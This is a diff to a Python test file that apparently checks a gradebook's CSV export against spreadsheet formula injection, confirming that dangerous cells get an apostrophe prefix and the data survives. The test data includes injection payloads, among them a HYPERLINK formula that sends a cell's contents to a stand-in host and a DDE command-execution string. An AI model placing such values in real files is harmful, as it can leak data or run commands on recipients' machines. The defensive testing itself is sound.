@@ -1,5 +1,6 @@
 """The gradebook in the journey store, on SQLite and on PostgreSQL: one row per submission, several graders at once."""
 
+import csv
 import subprocess
 import sys
 import textwrap
@@ -73,3 +74,37 @@ def test_two_graders_writing_one_gradebook_at_once_make_each_row_once(store_url,
         pairs = connection.execute(sa.select(grades.c.learner, grades.c.submission_sha)).all()
     store.close()
     assert len(pairs) == len(set(pairs)) == 40 + 2 * 8
+
+
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your grade")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+]
+HARMLESS = ['Ada "the first", Lovelace', "bob", "Zoë 3"]
+
+
+def test_the_csv_is_safe_in_a_spreadsheet_and_the_csv_module_reads_every_name_back(tmp_path):
+    store = Store(f"sqlite:///{tmp_path / 'book.db'}")
+    names = DANGEROUS + HARMLESS
+    gradebook.record(store, [result(name, "ds/a", f"s{n}", n % 2 == 0) for n, name in enumerate(names)])
+    gradebook.record(store, [result("=1+1", "-exercise", "s", True)])  # a mentor's id can start like a formula too
+    book = gradebook.load(store)
+    store.close()
+    path = tmp_path / "book.csv"
+    path.write_text(gradebook.to_csv(book), encoding="utf-8", newline="")
+
+    with path.open(encoding="utf-8", newline="") as opened:
+        header, *rows = list(csv.reader(opened))
+    assert header == ["learner", "'-exercise", "ds/a", "total"]
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(cell.startswith(formula_starts) for row in [header, *rows] for cell in row)
+    read_back = {row[0]: row[1:] for row in rows}
+    for n, name in enumerate(names):
+        shown = "'" + name if name in DANGEROUS else name
+        assert read_back[shown] == ["", str(int(n % 2 == 0)), str(int(n % 2 == 0))]  # the data survived
+    assert read_back["'=1+1"] == ["1", "", "1"]
+    assert len(rows) == len(names) + 1
